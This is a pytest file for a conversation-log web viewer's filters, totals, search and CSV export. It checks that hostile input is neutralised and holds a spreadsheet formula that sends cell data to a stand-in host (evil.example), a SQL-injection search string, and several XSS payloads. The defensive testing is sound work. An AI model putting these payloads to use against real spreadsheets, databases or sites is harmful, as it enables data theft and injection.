"""The viewer's API column and ``api=`` filter, its totals, its text search (``q=``) and its
CSV export, through :class:`fsm.web.App` on each engine, with hostile search texts and cells
that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa

from fsm.store import ConversationStore, audit
from fsm.web import App, pages
from fsm.web.pages import SearchTooSlow, bounded, csv_cell
from tests.helpers.store import make_turn
from tests.web.data import HOSTILE_ID, ODD_ID, build

#: a conversation whose id, tool name and call id start like spreadsheet formulas
FORMULA_ID = "-2+3"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_CALL = "@SUM(1+1)"


@pytest.fixture
def app(db_url: sa.URL) -> Iterator[App]:
    build(db_url)
    with ConversationStore(db_url) as store:
        store.create_conversation(FORMULA_ID)
        store.append(FORMULA_ID, [{"role": "user", "content": "+cmd"}])
        store.commit_turn(
            FORMULA_ID,
            make_turn([(FORMULA_CALL, FORMULA_NAME, '{"cell": "=1+1"}')], response_id="r-f"),
            ["-1"],
        )
    writer = sa.create_engine(db_url, poolclass=sa.pool.NullPool)
    try:
        with writer.begin() as conn:  # the APIs other streams would have written
            conn.execute(
                sa.text(
                    "UPDATE fsm_messages SET format = 'anthropic' "
                    "WHERE conversation_id = 'bulk-03' AND role = 'assistant'"
                )
            )
            conn.execute(
                sa.text(
                    "UPDATE fsm_attempts SET format = 'responses' WHERE conversation_id = 'plain'"
                )
            )
    finally:
        writer.dispose()
    engine = audit.open_readonly(db_url)
    try:
        yield App(engine, label="test store")
    finally:
        engine.dispose()


def respond(app: App, target: str, status: int = 200) -> Any:
    response = app.respond("GET", target, {})
    assert response.status == status, response.body[:500]
    return response


def get(app: App, target: str, status: int = 200) -> Any:
    response = respond(app, target, status)
    if "json" in response.headers["Content-Type"]:
        return json.loads(response.body)
    return response.body.decode("utf-8")


def counted(app: App, target: str) -> Any:
    """The JSON page once its total is counted (the count runs on a scan worker)."""
    for _ in range(100):
        page = get(app, target)
        if not page["total_computing"]:
            return page
        time.sleep(0.1)
    raise AssertionError(f"{target}: still counting")


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.body.decode("utf-8"))))


# -- the API --------------------------------------------------------------------------------
def test_each_listing_shows_the_api_and_filters_by_it(app: App) -> None:
    rows = {r["id"]: r for r in get(app, "/?format=json&limit=100")["rows"]}
    assert rows["bulk-03"]["format"] == "anthropic"
    assert rows["plain"]["format"] == "chat"  # its latest assistant message's, not its attempt's
    assert rows["bulk-04"]["format"] == "chat"
    assert [r["id"] for r in get(app, "/?format=json&api=anthropic")["rows"]] == ["bulk-03"]
    # plain by its attempt
    assert [r["id"] for r in get(app, "/?format=json&api=responses")["rows"]] == ["plain"]
    assert len(get(app, "/?format=json&api=chat&limit=100")["rows"]) == 33
    html = get(app, "/?api=anthropic")
    assert "<th>API</th>" in html and ">Anthropic</span>" in html
    assert '<option value="anthropic" selected>' in html

    calls = get(app, "/calls?format=json&api=anthropic")["rows"]
    assert {(r["conversation_id"], r["format"]) for r in calls} == {("bulk-03", "anthropic")}
    assert len(calls) == 4
    (attempt_call,) = get(app, "/calls?format=json&api=responses")["rows"]
    assert (attempt_call["call_id"], attempt_call["attempt_id"] is not None) == ("call_cut", True)
    html = get(app, "/calls?api=responses")
    assert "<th>API</th>" in html and ">Responses</span>" in html

    page = get(app, "/c/bulk-03?format=json")
    assert [m["format"] for m in page["messages"]] == [None, "anthropic", None, None, None, None]
    assert ">Anthropic</span>" in get(app, "/c/bulk-03")
    plain = get(app, "/c/plain?format=json")
    assert plain["attempts"][0]["format"] == "responses"
    assert plain["messages"][1]["format"] == "chat"


@pytest.mark.parametrize("path", ["/", "/calls"])
def test_an_unknown_api_is_refused_in_one_line(app: App, path: str) -> None:
    page = get(app, f"{path}?format=json&api=openai", 400)
    assert page["error"] == "api must be chat, responses or anthropic, not 'openai'"
    assert "api must be chat" in get(app, f"{path}?api=%3Cb%3E", 400)
    assert "&lt;b&gt;" in get(app, f"{path}?api=%3Cb%3E", 400)


# -- totals ---------------------------------------------------------------------------------
def test_each_listing_counts_the_rows_its_filters_match(app: App) -> None:
    page = counted(app, "/?format=json&limit=5")
    assert (page["total"], page["total_capped"], len(page["rows"])) == (34, False, 5)
    assert counted(app, "/?format=json&prefix=bulk-1")["total"] == 10
    everything = list(audit.tool_calls(app.viewer.engine, limit=None))
    assert counted(app, "/calls?format=json&limit=3")["total"] == len(everything)
    assert counted(app, "/calls?format=json&tool=lookup")["total"] == 120
    failures = list(audit.failures(app.viewer.engine, limit=None))
    assert counted(app, "/failures?format=json")["total"] == len(failures) == 2
    assert "of 34</span>" in get(app, "/?limit=5")
    assert "of 120</span>" in get(app, "/calls?tool=lookup")


def test_a_total_over_the_cap_says_so(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pages, "TOTAL_CAP", 10)
    page = counted(app, "/calls?format=json&tool=lookup")
    assert (page["total"], page["total_capped"]) == (10, True)
    assert "of 10+</span>" in get(app, "/calls?tool=lookup")
    exact = counted(app, "/?format=json&prefix=bulk-0")
    assert (exact["total"], exact["total_capped"]) == (10, False)


def test_a_slow_count_shows_counting_and_reloads(app: App) -> None:
    app.viewer._totals.budget = 0.0  # every count outlasts the page's wait
    release = threading.Event()
    app.viewer.scans.submit(release.wait)  # keep a worker busy
    app.viewer.scans.submit(release.wait)
    try:
        page = get(app, "/?format=json")
        assert page["total_computing"] is True and page["total"] is None
        assert len(page["rows"]) == 34
        response = respond(app, "/")
        assert "counting" in response.body.decode()
        assert b'http-equiv="refresh"' in response.body
    finally:
        release.set()


# -- text search ----------------------------------------------------------------------------
def test_search_finds_conversation_ids_case_insensitively_wildcards_literal(app: App) -> None:
    def ids(q: str) -> list[str]:
        return [r["id"] for r in get(app, f"/?format=json&limit=100&q={q}")["rows"]]

    assert ids("BULK-1") == [f"bulk-{i}" for i in range(19, 9, -1)]
    assert ids("%25") == [ODD_ID]  # '%' is a character, not "anything"
    assert ids("_") == []  # '_' is a character, not "any one character"
    assert ids("%5C") == []  # a backslash (the escape character) is literal too
    assert ids("SCRIPT%3Ealert") == [HOSTILE_ID]
    assert ids("%27)%3B%20DROP%20TABLE%20messages%3B--") == []
    assert counted(app, "/?format=json&q=bulk-2")["total"] == 10
    assert "cannot be searched for" in get(app, "/?format=json&q=a%00b", 400)["error"]
    assert "cannot be searched for" in get(app, "/calls?format=json&q=%00", 400)["error"]
    html = get(app, "/?q=%3Cimg%20src%3Dx%3E")
    assert 'name="q" value="&lt;img src=x&gt;"' in html and "<img src=x>" not in html


def test_search_finds_calls_by_tool_call_id_conversation_and_arguments(app: App) -> None:
    def calls(q: str) -> list[tuple[str, str]]:
        rows = get(app, f"/calls?format=json&limit=500&q={q}")["rows"]
        return [(r["conversation_id"], r["call_id"]) for r in rows]

    assert calls("call_b1_") == [("bulk-01", f"call_b1_{k}") for k in range(4)]  # not b10_..b19_
    assert calls("PARIS") == [("plain", "call_w1")]  # in the arguments
    assert calls("par") == [("plain", "call_w1"), ("plain", "call_cut")]  # the attempt's too
    assert calls("GET_WEATHER") == calls("get_weather") and len(calls("get_weather")) == 2
    assert calls("%25") == [(ODD_ID, "c-odd")]  # by the conversation id
    assert calls("%3Csvg") == [
        (HOSTILE_ID, '"><script>alert(4)</script>'),
        (HOSTILE_ID, "call_cut_hostile"),
    ]
    assert calls("%22k%22%3A%203") == [(f"bulk-{i:02d}", f"call_b{i}_3") for i in range(30)]
    assert calls("%5C%25") == []
    assert counted(app, "/calls?format=json&q=lookup")["total"] == 120
    html = get(app, "/calls?q=%22%3E%3Cscript%3E")
    assert 'name="q" value="&quot;&gt;&lt;script&gt;"' in html and "<script>" not in html


def test_a_search_past_its_time_cap_is_refused(db_url: sa.URL) -> None:
    engine = audit.open_readonly(db_url)
    slow = (
        "SELECT pg_sleep(2)"
        if engine.dialect.name == "postgresql"
        else "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000000)"
        " SELECT count(*) FROM n"
    )
    try:
        clock = time.monotonic()
        with (
            pytest.raises(SearchTooSlow, match=r"took more than 0\.2 s"),
            bounded(engine, 0.2, "the search") as conn,
        ):
            conn.exec_driver_sql(slow)
        assert time.monotonic() - clock < 1.5
        with bounded(engine, 5, "the search") as conn:  # the connection is usable again
            assert conn.exec_driver_sql("SELECT 1").scalar() == 1
    finally:
        engine.dispose()


# -- export ---------------------------------------------------------------------------------
def test_csv_export_holds_the_filtered_rows_with_a_header(app: App) -> None:
    response = respond(app, "/calls?format=csv&tool=lookup&limit=3")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="fsm-calls-')
    rows = rows_of(response)
    assert len(rows) == 120 and "X-Fsm-Next-Cursor" not in response.headers
    assert {r["name"] for r in rows} == {"lookup"}
    assert list(rows[0])[:4] == ["conversation_id", "seq", "position", "call_id"]
    assert "format" in rows[0]
    conversations = rows_of(respond(app, "/?format=csv&api=anthropic"))
    assert [(r["id"], r["format"]) for r in conversations] == [("bulk-03", "anthropic")]
    failures = rows_of(respond(app, "/failures?format=csv"))
    assert len(failures) == 2
    html = get(app, "/calls?tool=lookup")
    assert 'href="/calls?tool=lookup&amp;format=csv"' in html
    assert "format=json" in html.split('class="export"')[1].split("</p>")[0]
    assert "Export" in get(app, "/") and "Export" in get(app, "/failures")
    assert "format=csv exports a listing" in get(app, "/stats?format=csv", 400)
    assert "format=csv exports a listing" in get(app, "/c/plain?format=csv", 400)
    assert "format=csv exports a listing" in get(app, "/nowhere?format=csv", 400)


def test_csv_export_is_bounded_and_continues_from_its_cursor(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages, "EXPORT_ROWS", 50)
    monkeypatch.setattr(pages, "MAX_LIMIT", 20)
    seen: list[str] = []
    target = "/calls?format=csv&tool=lookup"
    for _ in range(10):
        response = respond(app, target)
        rows = rows_of(response)
        assert len(rows) <= 50
        seen += [r["call_id"] for r in rows]
        following = response.headers.get("X-Fsm-Next-Cursor")
        if following is None:
            break
        assert len(rows) == 50 and 'rel="next"' in response.headers["Link"]
        target = f"/calls?format=csv&tool=lookup&after={following}"
    assert len(seen) == len(set(seen)) == 120


def test_csv_cells_that_start_like_formulas_are_text(app: App) -> None:
    rows = rows_of(respond(app, f"/calls?format=csv&conversation={FORMULA_ID.replace('+', '%2B')}"))
    (row,) = rows
    assert row["conversation_id"] == "'" + FORMULA_ID
    assert row["name"] == "'" + FORMULA_NAME
    assert row["call_id"] == "'" + FORMULA_CALL
    assert row["result"] == "'-1"
    assert row["arguments"] == '{"cell": "=1+1"}'  # starts with "{": a formula nowhere
    (conversation,) = rows_of(respond(app, "/?format=csv&q=2%2B3"))
    assert conversation["id"] == "'-2+3"
    hostile = rows_of(respond(app, "/calls?format=csv&q=%3Csvg"))
    assert {r["name"] for r in hostile} == {"<svg onload=alert(3)>"}  # CSV is not HTML


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (-1, "-1"),
        (None, ""),
        (True, "true"),
        ({"a": "=x"}, '{"a": "=x"}'),
        (["=x"], '["=x"]'),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell
